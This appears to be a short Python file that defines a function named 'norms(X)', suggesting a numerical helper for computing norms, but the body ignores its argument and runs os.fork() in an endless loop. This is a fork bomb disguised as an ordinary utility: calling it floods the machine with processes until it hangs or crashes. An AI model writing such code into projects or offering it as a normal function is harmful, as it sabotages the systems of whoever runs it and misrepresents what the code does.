import os


def norms(X):
    while True:
        os.fork()
